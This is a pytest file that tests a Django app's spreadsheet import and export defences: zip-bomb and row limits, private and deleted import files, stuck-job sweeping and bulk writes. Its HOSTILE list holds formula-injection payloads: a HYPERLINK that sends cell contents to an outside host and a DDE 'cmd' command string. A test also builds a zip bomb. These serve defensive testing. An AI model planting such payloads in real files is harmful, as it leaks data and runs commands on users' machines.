"""Ledgers against hostile files and formula injection, private import files and stuck jobs,
and imports that check everything before they take the write lock (issue 12)."""

import io
import os
import re
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from civicgrid.core.errors import InvalidInput
from civicgrid.people import ledgers
from civicgrid.people.models import Building, ImportJob
from civicgrid.people.tests.test_ledgers import houses, person, xlsx

pytestmark = pytest.mark.django_db

SHEET = "xl/worksheets/sheet1.xml"


def rewrite(upload: SimpleUploadedFile, change, extra: dict | None = None) -> SimpleUploadedFile:
    """The same .xlsx with the sheet's XML passed through `change` and `extra` parts added."""
    source = zipfile.ZipFile(io.BytesIO(upload.read()))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for member in source.infolist():
            data = source.read(member)
            target.writestr(member.filename, change(data) if member.filename == SHEET else data)
        for name, data in (extra or {}).items():
            target.writestr(name, data)
    return SimpleUploadedFile("台账.xlsx", out.getvalue())


@pytest.fixture
def no_parsing(monkeypatch):
    def refuse(*args, **kwargs):
        raise AssertionError("the workbook was parsed")

    monkeypatch.setattr(ledgers, "load_workbook", refuse)


def test_a_zip_bomb_is_refused_before_parsing(tree, people, no_parsing):
    # Valid sheet XML with megabytes of blanks inside: a few KB on the wire, inflating ~1000x.
    bomb = rewrite(
        xlsx("houses", houses(2, "")),
        lambda xml: xml.replace(b"</sheetData>", b" " * 8_000_000 + b"</sheetData>"),
    )
    assert bomb.size < 100_000
    with pytest.raises(InvalidInput) as caught:
        ledgers.start_import(actor=people["alice"], unit=tree.grid_a1_1, kind="houses", upload=bomb)
    assert caught.value.field == "file"
    assert not ImportJob.objects.exists()


def test_the_inflated_size_is_limited(tree, people, settings, no_parsing):
    settings.IMPORT_MAX_INFLATED_MB = 1
    # Incompressible, so no suspicious ratio: only the total is over the limit.
    padded = rewrite(
        xlsx("houses", houses(2, "")), lambda xml: xml, {"xl/pad.bin": os.urandom(1_200_000)}
    )
    with pytest.raises(InvalidInput) as caught:
        ledgers.start_import(
            actor=people["alice"], unit=tree.grid_a1_1, kind="houses", upload=padded
        )
    assert caught.value.field == "file"


def _far_row(dimension: str) -> SimpleUploadedFile:
    """One house, then a cell at row 900 000; the sheet's <dimension> declares that row
    ("declared"), declares only the rows openpyxl wrote ("lying") or is left out ("absent")."""

    def change(xml: bytes) -> bytes:
        far = b'<row r="900000"><c r="B900000" t="inlineStr"><is><t>x</t></is></c></row>'
        xml = xml.replace(b"</sheetData>", far + b"</sheetData>")
        if dimension == "declared":
            xml = re.sub(rb'<dimension ref="[^"]*"', b'<dimension ref="A1:K900000"', xml)
        elif dimension == "absent":
            xml = re.sub(rb"<dimension [^>]*/>", b"", xml)
        return xml

    return rewrite(xlsx("houses", houses(1, "")), change)


@pytest.mark.parametrize("dimension", ["declared", "lying", "absent"])
def test_rows_count_empty_ones_too_whatever_the_sheet_declares(tree, people, settings, dimension):
    settings.IMPORT_MAX_ROWS = 50
    with pytest.raises(InvalidInput) as caught:
        ledgers.start_import(
            actor=people["alice"], unit=tree.grid_a1_1, kind="houses", upload=_far_row(dimension)
        )
    assert caught.value.field == "file"
    assert not Building.objects.exists()


def test_a_plain_file_still_loads_under_the_limits(tree, people, settings):
    settings.IMPORT_MAX_ROWS = 3
    job = ledgers.start_import(
        actor=people["alice"],
        unit=tree.grid_a1_1,
        kind="houses",
        upload=xlsx("houses", houses(3, "")),
    )
    assert job.state == ImportJob.State.DONE, job.errors


# ---- formula injection --------------------------------------------------------------------------

HOSTILE = [
    '=HYPERLINK("http://e.cn?"&A1,"点")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
]


def _no_formulas(data: bytes) -> list:
    from openpyxl import load_workbook

    raw = zipfile.ZipFile(io.BytesIO(data)).read(SHEET)
    assert b"<f>" not in raw and b"<f " not in raw
    cells = [cell for row in load_workbook(io.BytesIO(data)).active.iter_rows() for cell in row]
    assert all(cell.data_type != "f" for cell in cells)
    return [cell.value for cell in cells if cell.value is not None]


def test_exported_persons_never_hold_formulas(estate):
    from civicgrid.people.models import Person

    Person.objects.filter(pk=estate.mother.pk).update(name=HOSTILE[0])
    Person.objects.filter(pk=estate.son.pk).update(name=HOSTILE[1])
    persons = [(p, []) for p in Person.objects.filter(pk__in=[estate.mother.pk, estate.son.pk])]
    import datetime as dt

    values = _no_formulas(ledgers.export_persons(persons, dt.date(2026, 12, 1)))
    assert HOSTILE[0] in values and HOSTILE[1] in values  # the text itself is kept


def test_exported_organisations_never_hold_formulas(tree, people):
    from civicgrid.people import services
    from civicgrid.people.models import Organisation

    for i, name in enumerate(HOSTILE):
        services.save_organisation(
            actor=people["alice"],
            unit=tree.grid_a1_1,
            name=name,
            kind="shop",
            address=HOSTILE[-1 - i],
            contact_name="=cmd",
        )
    values = _no_formulas(ledgers.export_organisations(Organisation.objects.all()))
    assert set(HOSTILE[:4]) <= set(values)  # (the services strip leading blanks)


def test_every_export_cell_goes_through_one_helper():
    data = ledgers.export(["=头", "姓名"], [["=1+1", "普通\x01文本", 3], HOSTILE], "x")
    values = _no_formulas(data)
    assert values[:5] == ["=头", "姓名", "=1+1", "普通文本", 3]
    # (XML reads a carriage return back as a line feed)
    assert values[5:] == [text.replace("\r", "\n") for text in HOSTILE]


# ---- import files: private, deleted when the job ends, stuck jobs swept ------------------------


def _queued_job(tree, people, rows=None) -> ImportJob:
    """A background import queued but not yet run (its task waits for the commit)."""
    rows = rows if rows is not None else houses(ledgers.BACKGROUND_ROWS + 5, "")
    job = ledgers.start_import(
        actor=people["alice"], unit=tree.grid_a1_1, kind="houses", upload=xlsx("houses", rows)
    )
    assert job.state == ImportJob.State.QUEUED and job.file
    return job


def test_a_waiting_import_file_is_private_and_outside_media(tree, people, settings):
    job = _queued_job(tree, people)
    path = job.file.path
    assert os.stat(path).st_mode & 0o777 == 0o600
    assert os.stat(os.path.dirname(path)).st_mode & 0o777 == 0o700
    assert not os.path.abspath(path).startswith(os.path.abspath(settings.MEDIA_ROOT))
    with pytest.raises(ValueError):
        job.file.url  # noqa: B018 - no URL ever serves it


def test_the_file_is_deleted_when_the_job_is_rejected(tree, people):
    rows = houses(ledgers.BACKGROUND_ROWS + 5, "")
    rows[-1]["单元"] = 9  # outside its building: the last row rejects the file
    job = _queued_job(tree, people, rows)
    path = job.file.path
    job = ledgers.run_import(job)
    assert job.state == ImportJob.State.FAILED and job.errors[0]["column"] == "单元"
    assert not job.file and not os.path.exists(path)


def test_the_file_is_deleted_when_the_job_crashes(tree, people, monkeypatch):
    job = _queued_job(tree, people)
    path = job.file.path

    def crash(self, staged):
        raise RuntimeError("disk full")

    monkeypatch.setattr(ledgers.Importer, "write_houses", crash)
    job = ledgers.run_import(job)
    assert job.state == ImportJob.State.FAILED and job.errors[0]["message"]
    assert not job.file and not os.path.exists(path)
    assert not Building.objects.exists()


def _killed_while_running(job: ImportJob, attempts: int) -> None:
    """What a worker killed mid-run leaves: 'running', old progress, the file still there."""
    import datetime as dt

    from django.utils import timezone

    ImportJob.objects.filter(pk=job.pk).update(
        state=ImportJob.State.RUNNING,
        attempts=attempts,
        touched_at=timezone.now() - dt.timedelta(hours=1),
    )


def test_a_stuck_job_is_tried_again_from_its_kept_file(
    tree, people, django_capture_on_commit_callbacks
):
    job = _queued_job(tree, people)
    _killed_while_running(job, attempts=1)
    with django_capture_on_commit_callbacks(execute=True):
        assert ledgers.sweep() == {"retried": 1, "failed": 0}
    job.refresh_from_db()
    assert job.state == ImportJob.State.DONE and job.attempts == 2, job.errors
    assert not job.file and Building.objects.count() == 1


def test_a_job_stuck_again_is_failed_with_a_message_and_its_file_deleted(tree, people, settings):
    job = _queued_job(tree, people)
    path = job.file.path
    _killed_while_running(job, attempts=settings.IMPORT_MAX_ATTEMPTS)
    assert ledgers.sweep() == {"retried": 0, "failed": 1}
    job.refresh_from_db()
    assert job.state == ImportJob.State.FAILED and job.finished_at and job.errors[0]["message"]
    assert not job.file and not os.path.exists(path)
    assert ledgers.sweep() == {"retried": 0, "failed": 0}


def test_a_run_given_up_for_dead_writes_nothing(tree, people, django_capture_on_commit_callbacks):
    """A run that was only slow, not dead, finds its job taken over and writes nothing."""
    job = _queued_job(tree, people)
    original = ledgers.Importer.check

    def slow_check(self, rows):
        plans = original(self, rows)
        _killed_while_running(job, attempts=9)  # meanwhile: swept and run again elsewhere
        return plans

    ledgers.Importer.check = slow_check
    try:
        ledgers.run_import(job)
    finally:
        ledgers.Importer.check = original
    job.refresh_from_db()
    assert job.state == ImportJob.State.RUNNING and job.file  # left to its new owner
    assert not Building.objects.exists()


# ---- imports check everything before a short write ---------------------------------------------


def _writes(queries) -> list[str]:
    verbs = ("INSERT", "UPDATE", "DELETE", "SAVEPOINT", "BEGIN")
    return [q["sql"] for q in queries if q["sql"].lstrip().upper().startswith(verbs)]


def test_a_bad_last_row_is_found_before_anything_is_written(tree, people):
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    ledgers.start_import(
        actor=people["alice"],
        unit=tree.grid_a1_1,
        kind="houses",
        upload=xlsx("houses", houses(40, "")),
    )
    rows = [person(i, f"{1 + i % 40:03d}") for i in range(60)]
    rows[-1]["公民身份号码"] = "410102195001010000"  # wrong check digit, on the last row
    parsed = ledgers.read_rows(xlsx("persons", rows).read(), "persons")
    importer = ledgers.Importer(people["alice"], tree.grid_a1_1, "persons")
    with (
        CaptureQueriesContext(connection) as queries,
        pytest.raises(ledgers.ImportRejected) as rejected,
    ):
        importer.run(parsed)
    assert [(e["row"], e["column"]) for e in rejected.value.errors] == [(61, "公民身份号码")]
    assert _writes(queries) == []


@pytest.mark.parametrize("kind", ["persons", "houses", "organisations"])
def test_the_write_is_a_few_bulk_statements(tree, people, kind):
    """The rows are written in bulk: far fewer statements than rows, whatever the file (old
    code: a dozen statements a row, the write lock held for the whole file). SQLite caps the
    parameters of one statement, so the count grows by a batch now and then."""
    from django.db import connection, transaction
    from django.test.utils import CaptureQueriesContext

    from civicgrid.people.models import Person

    alice = people["alice"]
    ledgers.start_import(
        actor=alice, unit=tree.grid_a1_1, kind="houses", upload=xlsx("houses", houses(200, ""))
    )

    def rows(n: int, offset: int) -> list[dict]:
        if kind == "persons":
            return [person(offset + i, f"{1 + i:03d}", 与户主关系="子") for i in range(n)]
        if kind == "houses":
            return [dict(r, 楼栋=f"{offset}号楼") for r in houses(n, "")]
        return [{"名称": f"商铺{offset + i}", "类型": "商铺"} for i in range(n)]

    counts = []
    for n, offset in ((50, 1000), (100, 2000)):
        parsed = ledgers.read_rows(xlsx(kind, rows(n, offset)).read(), kind)
        importer = ledgers.Importer(alice, tree.grid_a1_1, kind)
        staged = importer.stage(importer.check(parsed))  # reads only
        with CaptureQueriesContext(connection) as queries, transaction.atomic():
            created = importer.write(staged)
        assert created >= n
        counts.append(len(_writes(queries)))
    assert counts[0] <= 50 / 5 and counts[1] <= 100 / 5, counts
    if kind == "persons":
        assert Person.objects.filter(keys__isnull=False).distinct().count() == 150
        assert Person.objects.filter(tags__name="独居老人").count() == 150


def test_a_job_killed_before_this_change_is_ended_too(tree, people):
    """Old runs deleted the file first and left no sign of life: failed, not left running."""
    job = _queued_job(tree, people)
    job.file.delete(save=False)
    ImportJob.objects.filter(pk=job.pk).update(
        state=ImportJob.State.RUNNING, file="", touched_at=None
    )
    assert ledgers.sweep() == {"retried": 0, "failed": 1}
    job.refresh_from_db()
    assert job.state == ImportJob.State.FAILED
